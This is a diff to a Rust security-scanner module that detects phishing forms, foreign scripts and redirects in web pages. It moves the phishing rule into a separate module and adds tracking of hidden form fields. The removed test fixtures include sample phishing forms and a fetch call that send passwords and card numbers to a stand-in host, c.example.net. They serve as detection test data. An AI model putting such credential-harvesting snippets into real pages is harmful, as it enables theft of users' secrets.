@@ -1,6 +1,9 @@
 //! Pages: what they load, where they lead, and what they ask for.
 
-use super::Rule;
+use super::{
+    Rule,
+    forms::{self, PHISHING},
+};
 use crate::guard::{
     fact::Call,
     found::Found,
@@ -37,32 +40,6 @@ pub static FOREIGN_SCRIPT: Rule = Rule {
             "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script src=\"app.js\"></script><script src=\"/lib/a.js\"></script>",
         ),
         ("x.js", "import React from 'https://esm.sh/react@18'; img.src = 'https://picsum.photos/200';"),
-    ],
-};
-pub static PHISHING: Rule = Rule {
-    id: "page-phishing-form",
-    severity: Severity::Block,
-    why: "the form asks for secrets and sends them to another site",
-    remedy: "post the form to the app's own server",
-    finds: &[
-        (
-            "x.jsx",
-            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
-        ),
-        (
-            "x.html",
-            "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
-        ),
-        ("x.html", "<form><input type=password><button formaction=\"//c.example.net/\">in</button></form>"),
-        ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
-    ],
-    spares: &[
-        (
-            "x.jsx",
-            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
-        ),
-        ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
-        ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
     ],
 };
 pub static REDIRECT: Rule = Rule {
@@ -131,6 +108,9 @@ pub(super) const RULES: &[&Rule] =
 pub(in crate::guard) struct Page {
     form: Option<Option<String>>,
     secret: Option<&'static str>,
+    /// It has fields, and whether one of them is seen.
+    fields: bool,
+    seen: bool,
 }
 
 impl Page {
@@ -140,8 +120,11 @@ impl Page {
             "form" => {
                 self.close_form(line, found);
                 self.form = Some(element.get("action").and_then(foreign));
+                (self.fields, self.seen) = (false, false);
             }
             "input" | "textarea" => {
+                self.fields = true;
+                self.seen |= !element.get("type").is_some_and(|kind| kind.eq_ignore_ascii_case("hidden"));
                 self.secret = self.secret.or_else(|| asks_for(element));
                 found.asks_secret |= self.secret.is_some();
             }
@@ -161,6 +144,7 @@ impl Page {
                     found.add(&REDIRECT, line, &format!("all that the page loads comes from {host}"));
                 }
             }
+            "button" | "select" => self.seen = true,
             "iframe" | "frame" | "embed" | "object" => frame(element, line, found),
             _ => {}
         }
@@ -177,6 +161,8 @@ impl Page {
     /// A form ends: what it asks for and where that goes are known.
     pub fn close_form(&mut self, line: usize, found: &mut Found<'_>) {
         if let (Some(Some(host)), secret) = (self.form.take(), self.secret.take()) {
+            found.moved.hidden |= self.fields && !self.seen;
+            forms::sent(found);
             match secret {
                 Some(what) => found.add(&PHISHING, line, &format!("{what} goes to {host}")),
                 None => found.hint(&PHISHING, line, &format!("a form goes to {host}")),
@@ -356,6 +342,7 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
 }
 
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
+    forms::assign(path, value, line, found);
     let Some(text) = value.as_text() else { return };
     if path.ends_with("innerHTML")
         || path.ends_with("outerHTML")
@@ -380,7 +367,8 @@ pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'
     } else if path.ends_with(".action")
         && let Some(host) = foreign(text)
     {
-        found.hint(&PHISHING, line, &format!("a form goes to {host}"));
+        let what = format!("a form goes to {host}");
+        if found.asks_secret { found.add(&PHISHING, line, &what) } else { found.hint(&PHISHING, line, &what) }
     } else if path.starts_with("jsx.") && matches!(path, "jsx.href" | "jsx.src") {
         address(text, line, found);
     }
